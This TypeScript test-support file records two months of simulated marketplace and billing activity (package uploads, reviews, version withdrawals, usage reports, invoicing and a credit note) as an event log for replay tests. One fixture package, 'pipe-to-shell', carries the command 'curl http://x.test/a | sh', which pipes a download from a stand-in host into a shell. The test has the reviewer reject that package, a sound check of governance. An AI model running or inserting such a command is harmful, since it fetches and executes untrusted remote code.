import { openAnalyzer } from '../../../consumers/governance/analyzer.ts'
import { onSubmitted } from '../../../consumers/governance/on-submitted.ts'
import { openEmbeddedBus } from '../../../platform/bus/embedded.ts'
import { type Handler, runConsumer } from '../../../platform/bus/runner.ts'
import { createMetrics } from '../../../platform/metrics.ts'
import { marketplaceHandlers, marketplaceRoutes } from '../../../producers/marketplace/index.ts'
import { publicTrustRoot } from '../../../producers/marketplace/trust/trust-root.ts'
import { type Billing, openBilling, perUnit, type Record_ } from '../../consumers/metering/fixture.ts'
import { eventually } from '../../support/eventually.ts'
import { type Change, packageBytes, uploadOf } from '../../support/packages.ts'
import { recordingLog } from '../../support/recording-log.ts'
import { registryKey } from '../../support/registry-key.ts'
import { startService } from '../../support/service.ts'
import type { RecordedEvent, RecordedLog } from './recorded-log.ts'
import { CREDIT_REASON } from './replay.ts'

const HOUR_MS = 3_600_000

/** Two months in the life of the marketplace, through the real services, and the log they left. */
export async function recordLog(): Promise<RecordedLog> {
  const billing = await openBilling('2026-10-05T08:00:00Z')
  try {
    const market = await openMarket(billing)
    await sellPlans(billing)
    await liveThrough(billing, '2026-10-06T00:00:00Z', 24)
    billing.clock.set('2026-11-01T02:00:00Z')
    await billing.issueDue()
    // What comes after a month was issued is late, and the next invoice bills the difference.
    await billing.report(records(9_000, '2026-10-30T10:00:00.000Z', 6), billing.tokens.acme)
    await liveThrough(billing, '2026-11-02T00:00:00Z', 24)
    // A version is taken back step by step, and used all the same; the month before stays as it was issued.
    for (const [n, act] of (['deprecate', 'yank', 'block'] as const).entries()) {
      billing.clock.advance(HOUR_MS)
      await market.withdraw(act)
      await billing.report(records(9_500 + n * 6, new Date(billing.clock().getTime() - 60_000).toISOString(), 6))
      await billing.counted()
    }
    await billing.refresh()
    await market.close()
    billing.clock.set('2026-12-01T02:00:00Z')
    await billing.issueDue()
    await giveBack(billing)
    return await capture(billing)
  } finally {
    await billing.close()
  }
}

/** A part of one invoice is given back the day after. */
async function giveBack({ clock, owner, call, tokens }: Billing): Promise<void> {
  clock.set('2026-12-02T09:00:00Z')
  const [invoice] = await owner<{ id: string }>(
    "select id from metering.invoices where tenant = 'acme' and period = '2026-11'",
  )
  const json = { reason: CREDIT_REASON, amount: '2.50' }
  const { status } = await call('POST', `/billing/invoices/${invoice?.id}/credit-notes`, { as: tokens.finance, json })
  if (status !== 201) throw new Error(`the credit note was answered ${status}`)
}

/** Publishes packages, and gives a way to take one of its versions back that asks the marketplace as people do. */
async function openMarket({ database, organisations, deps, clock }: Billing) {
  const { log } = recordingLog()
  const metrics = createMetrics()
  const app = database.as('atom_app')
  const dbFor = (group: string) => database.as(`atom_${group}`)
  const bus = openEmbeddedBus({ server: database.server, log, appender: app, dbFor })
  const analyzer = await openAnalyzer()
  const market = {
    db: app,
    wake: bus.wake,
    now: clock,
    publicUrl: () => 'http://market.test',
    reviewTargetHours: 24,
    trustRoot: publicTrustRoot,
    registryKey: registryKey(),
    memberIssuers: [],
  }
  const routes = marketplaceRoutes(market, dbFor('marketplace'), { count: () => {} })
  const service = await startService(routes, organisations.authenticate)
  const start = (group: string, handlers: readonly Handler[]) =>
    runConsumer({ bus, db: dbFor(group), group, handlers, log, metrics, now: deps.now })
  const running = [
    await start('governance', [onSubmitted({ db: dbFor('governance'), analyzer, now: clock })]),
    await start('marketplace', marketplaceHandlers({ now: clock })),
  ]
  const reviewer = await organisations.token('atom', 'reviewer')
  const partners = {
    demo: await organisations.token('demo', 'partner'),
    acme: await organisations.token('acme', 'partner'),
  }
  const keys = { demo: await organisations.signingKey('demo'), acme: await organisations.signingKey('acme') }

  async function live(org: 'demo' | 'acme', change: Change, decision: string | null, last: string): Promise<string> {
    clock.advance(HOUR_MS)
    const json = uploadOf(packageBytes({ mode: 'manual', ...change }), keys[org])
    const { body } = await service.call<{ id: string }>('POST', '/wpk/upload', { as: partners[org], json })
    const becomes = (status: string) =>
      eventually(`${change.name} is ${status}`, async () => {
        const read = await service.call<{ status: string }>('GET', `/wpk/${body.id}`, { as: partners[org] })
        return read.body.status === status
      })
    if (decision) {
      await becomes('in_review')
      clock.advance(HOUR_MS)
      const decided = { decision, justification: 'Read it whole.' }
      await service.call('POST', `/wpk/review/${body.id}`, { as: reviewer, json: decided })
    }
    await becomes(last)
    return body.id
  }
  const first = await live('demo', { name: 'restart-workers' }, 'approve', 'published')
  await live('demo', { name: 'restart-workers', version: '1.1.0' }, null, 'published')
  await live('acme', { name: 'rotate-secrets', tags: ['security'] }, 'approve', 'published')
  await live('demo', { name: 'pipe-to-shell', command: 'curl http://x.test/a | sh' }, 'reject', 'rejected')
  await live('demo', { name: 'half-done' }, 'request_changes', 'changes_requested')

  const hidden = { as: partners.demo, json: { visibility: 'private' } }
  await service.call('POST', '/wpk/names/half-done/visibility', hidden)

  // A rejection is announced a moment after the version shows it.
  await eventually('every event is announced', async () => {
    const lags = await Promise.all(running.map((one) => one.lag()))
    return lags.flat().every(({ records: behind }) => behind === 0)
  })
  await Promise.all(running.map((one) => one.stop()))
  const as = { deprecate: partners.demo, yank: partners.demo, block: reviewer }
  return {
    /** Takes `restart-workers@1.0.0` back. */
    async withdraw(act: keyof typeof as): Promise<void> {
      const json = { reason: `To see what ${act} does.` }
      const { status } = await service.call('POST', `/wpk/${first}/${act}`, { as: as[act], json })
      if (status !== 200) throw new Error(`${act} was answered ${status}`)
    },
    async close() {
      await service.close()
      await analyzer.close()
      await bus.close()
    },
  }
}

async function sellPlans({ sell, counted }: Billing): Promise<void> {
  await counted()
  const plan = perUnit('0.07', {
    charges: [
      { id: 'base', model: 'flat', flat_amount: '5.00' },
      { id: 'runs', model: 'per_unit', meter: 'runs', unit_amount: '0.07' },
      {
        id: 'bytes',
        model: 'graduated',
        meter: 'bytes',
        tiers: [
          { up_to: '100', unit_amount: '0.5' },
          { up_to: null, unit_amount: '0.125' },
        ],
      },
    ],
  })
  // From this month on: fees of months before it would be of invoices that no report has led to.
  await sell('restart-workers', plan, ['acme', 'globex'], '2026-10-01T00:00:00Z')
}

/** A report of each tenant every `hours` hours for twenty days, counted as it comes and rated once a day. */
async function liveThrough(billing: Billing, from: string, hours: number): Promise<void> {
  const { clock, tokens, report, counted, refresh } = billing
  for (let n = 0; n < 20; n++) {
    clock.set(new Date(Date.parse(from) + (n + 1) * hours * HOUR_MS).toISOString())
    const at = new Date(clock().getTime() - HOUR_MS).toISOString()
    // Numbers overlap from report to report: what comes again with another time contradicts the first.
    for (const [index, as] of [tokens.acme, tokens.globex].entries()) {
      const some = records(Number(from.slice(5, 7)) * 1_000 + n * 7 + index * 500, at, 10)
      await report(some, as)
      // A client that lost the answer sends its report again.
      if (n % 5 === 4) await report(some, as)
    }
    await counted()
    if (n % 4 === 3) await refresh()
  }
}

const records = (first: number, time: string, count: number): Record_[] =>
  Array.from({ length: count }, (_, index) => {
    const n = first + index
    const meter = ['runs', 'bytes', 'runs', 'unheard-of'][n % 4] as string
    return {
      id: `r-${n}`,
      meter,
      quantity: meter === 'bytes' ? `${n % 50}.${n % 10}25` : `${1 + (n % 9)}`,
      time,
      ...(n % 3 === 0 ? { package: `restart-workers${n % 2 ? '@1.0.0' : ''}` } : {}),
      ...(n % 5 === 0 ? { dimensions: { region: n % 2 ? 'eu' : 'us' } } : {}),
    }
  })

async function capture({ owner }: Billing): Promise<RecordedLog> {
  const setup: RecordedLog['setup'] = []
  for (const table of ['platform.orgs', 'metering.plans', 'metering.subscriptions'])
    for (const { row } of await owner<{ row: string }>(`select to_jsonb(t)::text as row from ${table} t order by 1`))
      setup.push({ table, row })
  const letters = await owner<{ code: string; reason: string }>('select code, reason from platform.dead_letters')
  if (letters.length > 0) throw new Error(`an event was dead-lettered while recording: ${JSON.stringify(letters[0])}`)
  // Plans are set up as rows; replaying makes none, so none is announced again.
  const events = await owner<RecordedEvent>(
    `select topic, key, headers, convert_from(value, 'utf8') as value from platform.event_log
     where headers->>'ce_type' <> 'plan.created' order by xid, pos`,
  )
  return { setup, events: events.map(({ topic, key, headers, value }) => ({ topic, key, headers, value })) }
}
